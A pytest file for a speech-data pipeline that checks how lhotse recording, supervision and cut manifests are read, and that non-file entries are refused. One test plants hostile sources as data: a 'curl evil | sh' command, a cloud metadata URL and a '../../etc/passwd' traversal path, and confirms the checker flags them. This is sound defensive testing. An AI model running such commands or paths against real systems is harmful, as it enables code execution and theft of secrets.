"""lhotse's manifests, written by lhotse itself; what is not a stretch of a file is refused with its line."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pytest
import soundfile

from pipeline.config import SourceConfig
from pipeline.errors import ManifestError
from pipeline.source.checking import check_manifest
from pipeline.source.manifest import manifest_digest, read_manifest

lhotse = pytest.importorskip("lhotse")

CONFIG = SourceConfig()


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """Two mono recordings and a stereo one, with supervisions, as lhotse writes them."""
    recordings, supervisions = [], []
    for name, channels in (("a", 1), ("b", 1), ("c", 2)):
        path = tmp_path / f"{name}.wav"
        soundfile.write(path, np.zeros((16_000 * 4, channels), np.float32), 16_000)
        recordings.append(lhotse.Recording.from_file(path, recording_id=name))
        for n, channel in enumerate(range(channels) if channels > 1 else (0, 0)):
            supervisions.append(
                lhotse.SupervisionSegment(
                    id=f"{name}-{n}",
                    recording_id=name,
                    start=float(n),
                    duration=1.5,
                    channel=channel,
                    text=f"text {name} {n}",
                    language="English",
                    speaker=f"spk-{n}",
                    custom={"snr": 12.5},
                )
            )
    lhotse.RecordingSet.from_recordings(recordings).to_file(tmp_path / "x_recordings_train.jsonl.gz")
    lhotse.SupervisionSet.from_segments(reversed(supervisions)).to_file(tmp_path / "x_supervisions_train.jsonl.gz")
    return tmp_path


def rows_of(path: Path, config: SourceConfig = CONFIG) -> list[dict[str, Any]]:
    return pa.concat_tables(read_manifest(str(path), config)).to_pylist()


def cuts_of(folder: Path) -> Any:
    recordings = lhotse.load_manifest(folder / "x_recordings_train.jsonl.gz")
    return lhotse.CutSet.from_manifests(
        recordings=recordings, supervisions=lhotse.load_manifest(folder / "x_supervisions_train.jsonl.gz")
    )


def test_recordings(folder: Path) -> None:
    rows = rows_of(folder / "x_recordings_train.jsonl.gz")
    assert [(row["id"], row["uri"], row["duration_s"]) for row in rows] == [
        (name, str(folder / f"{name}.wav"), 4.0) for name in "abc"
    ]
    assert {row["channel"] for row in rows} == {None}


def test_supervisions_find_their_recordings(folder: Path) -> None:
    path = folder / "x_supervisions_train.jsonl.gz"
    rows = {row["id"]: row for row in rows_of(path)}
    assert list(rows) == ["c-1", "c-0", "b-1", "b-0", "a-1", "a-0"]
    row = rows["c-1"]
    assert (row["uri"], row["offset_s"], row["duration_s"]) == (str(folder / "c.wav"), 1.0, 1.5)
    assert (row["channel"], rows["a-1"]["channel"], row["reference_text"]) == (1, None, "text c 1")
    assert (row["language"], dict(row["extra"])) == ("English", {"snr": "12.5", "speaker": "spk-1"})
    before = manifest_digest(str(path), CONFIG)
    beside = folder / "x_recordings_train.jsonl.gz"
    beside.write_bytes(beside.read_bytes() + b"\0")
    assert manifest_digest(str(path), CONFIG) != before
    beside.unlink()
    with pytest.raises(ManifestError, match="need their recordings beside them"):
        rows_of(path)


def test_cuts(folder: Path) -> None:
    cuts = cuts_of(folder)
    cuts.to_file(folder / "cuts.jsonl.gz")
    rows = {(row["id"]): row for row in rows_of(folder / "cuts.jsonl.gz")}
    first = rows["a-0"]
    assert (first["uri"], first["offset_s"], first["duration_s"]) == (str(folder / "a.wav"), 0.0, 4.0)
    assert first["reference_text"] == "text a 0 text a 1"
    cuts.trim_to_supervisions(keep_overlapping=False).to_file(folder / "trimmed.jsonl")
    trimmed = rows_of(folder / "trimmed.jsonl", SourceConfig(format="lhotse"))
    wanted = {
        (one["uri"], one["offset_s"], one["duration_s"], one["reference_text"])
        for one in rows_of(folder / "x_supervisions_train.jsonl.gz")
    }
    assert {(one["uri"], one["offset_s"], one["duration_s"], one["reference_text"]) for one in trimmed} == wanted


def test_what_is_no_stretch_of_a_file_is_refused_with_its_line(folder: Path) -> None:
    cut = next(iter(cuts_of(folder)))
    items: list[dict[str, Any]] = [
        cut.to_dict(),
        cut.with_id("resampled").resample(8_000).to_dict(),
        cut.with_id("fast").perturb_speed(1.1).to_dict(),
        cut.with_id("mixed").append(cut).to_dict(),
        cut.with_id("padded").pad(duration=9).to_dict(),
        cut.with_id("memory").move_to_memory().to_dict(),
    ]
    command, url = cut.with_id("command").to_dict(), cut.with_id("url").to_dict()
    command["recording"]["sources"] = [{"type": "command", "channels": [0], "source": "curl evil | sh"}]
    url["recording"]["sources"] = [{"type": "url", "channels": [0], "source": "http://169.254.169.254/a.wav"}]
    broken = {"id": "broken", "type": "MonoCut", "start": 0, "duration": 1, "recording": {"sources": 7}}
    up = cut.with_id("up").to_dict()
    up["recording"]["sources"][0]["source"] = "../../etc/passwd"
    path = folder / "cuts.jsonl"
    path.write_text("".join(json.dumps(item, default=repr) + "\n" for item in [*items, command, url, broken, up]))
    report = check_manifest(str(path), CONFIG)
    said = {problem.line: problem.message for problem in report.problems}
    assert sorted(said) == [3, 4, 5, 6, 7, 9]
    for line, meaning in (
        (3, "changed first (Speed"),
        (4, "MixedCut"),
        (6, "'memory'"),
        (7, "a command"),
        (9, "TypeErr"),
    ):
        assert meaning in said[line]
    assert [problem.line for problem in report.refused] == [8, 10]


def test_a_recording_that_is_not_there_or_comes_twice(folder: Path) -> None:
    for name, line in (("y_supervisions.jsonl", '{"id": "s", "recording_id": "z", "start": 0, "duration": 1}\n'),):
        (folder / name).write_text(line)
    one = json.dumps(next(iter(lhotse.load_manifest(folder / "x_recordings_train.jsonl.gz"))).to_dict())
    (folder / "y_recordings.jsonl").write_text(f"{one}\n{one}\n")
    messages = [one.message for one in check_manifest(str(folder / "y_supervisions.jsonl"), CONFIG).problems]
    assert messages == [
        "in y_recordings.jsonl: the recording 'a' comes twice",
        "the recording 'z' is not among the recordings",
    ]
